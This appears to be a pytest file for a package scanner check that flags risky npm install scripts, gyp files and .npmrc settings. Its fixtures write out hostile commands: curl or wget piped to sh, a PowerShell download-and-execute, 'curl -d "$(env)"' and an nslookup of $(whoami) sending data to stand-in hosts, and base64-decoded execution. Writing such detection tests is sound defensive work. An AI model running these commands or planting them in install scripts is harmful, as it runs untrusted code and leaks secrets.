"""What would run on installing is told, and what fetches or hides code is an alarm."""

import json

import pytest

from qirvo.checks.install_scripts import CHECK
from tests.support.plugins import a_subject, raw_package


def rules(**package: object) -> list[str]:
    return [finding.rule.partition("/")[2] for finding in CHECK.run(a_subject(package=raw_package(**package)))]


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("curl -s https://example.org/x.sh | sh", "runs-remote-code"),
        ("wget -qO- http://192.0.2.1/a | bash", "runs-remote-code"),
        ("curl https://example.org/a -o a && chmod +x a && ./a", "runs-remote-code"),
        ("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://example.org')\"", "runs-remote-code"),
        ("npx https://example.org/tool.tgz", "runs-remote-code"),
        ('curl -d "$(env)" https://example.org', "runs-remote-code"),
        ("nslookup $(whoami).example.org", "runs-remote-code"),
        ("node -e \"require('child_process').exec('id')\"", "hides-command"),
        ("echo aWQ= | base64 -d | sh", "hides-command"),
        ("python3 -c 'import os; os.system(\"id\")'", "hides-command"),
        ("powershell -enc aQBkAGEAYgBjAGQAZQBmAGcA", "hides-command"),
    ],
)
@pytest.mark.parametrize("name", ["postinstall", "prepare"])
def test_a_script_that_fetches_or_hides_is_an_alarm(name: str, script: str, rule: str):
    assert rule in rules(scripts={name: script})


@pytest.mark.parametrize(
    "script",
    [
        "node scripts/build.js",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node -e \"console.log('thank you')\"",
        "npm run build",
        "husky install || exit 0",
        "tsc && chmod +x dist/cli.js",
        "echo see https://example.org for news",
    ],
)
def test_a_plain_script_is_declared_and_no_alarm(script: str):
    assert rules(scripts={"postinstall": script}) == ["declared"]


def test_native_builds_are_told_by_field_script_and_file():
    assert rules(gypfile=True) == ["native-build"]
    assert rules(scripts={"install": "node-gyp rebuild"}) == ["declared", "native-build"]


def test_a_gyp_file_that_runs_what_it_fetches_is_an_alarm():
    gyp = "{'targets': [{'sources': ['<!(curl -s http://example.org/a | sh)']}]}"
    found = [finding.rule for finding in CHECK.run(a_subject(added={"binding.gyp": gyp}))]
    assert found == ["install-scripts/native-build", "install-scripts/runs-remote-code"]


def test_a_gyp_file_that_asks_for_headers_is_no_alarm():
    gyp = """{'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"]}"""
    assert [f.rule for f in CHECK.run(a_subject(added={"binding.gyp": gyp}))] == ["install-scripts/native-build"]


def test_a_command_named_like_a_program_of_others_is_an_alarm():
    assert rules(bin={"npm": "./x.js"}) == ["shadows-command"]
    assert rules(bin={"plugin-weather": "./x.js"}) == []


def test_a_dependency_from_an_address_is_told():
    assert rules(dependencies={"a": "https://example.org/a.tgz", "b": "^1.0.0"}) == ["remote-dependency"]


def test_an_npm_configuration_that_changes_what_runs_is_an_alarm():
    [finding] = CHECK.run(a_subject(added={".npmrc": "audit=false\nscript-shell=./evil\n"}))
    assert (finding.rule, finding.line) == ("install-scripts/changes-npm", 2)
    assert list(CHECK.run(a_subject(added={".npmrc": "audit=false\nfund=false\n"}))) == []


def test_a_package_inside_the_plugin_is_read_too():
    nested = json.dumps({"name": "a", "scripts": {"postinstall": "curl http://example.org/a | sh"}})
    found = [(f.rule, f.file) for f in CHECK.run(a_subject(added={"dist/vendor/package.json": nested}))]
    assert found == [("install-scripts/runs-remote-code", "dist/vendor/package.json")]
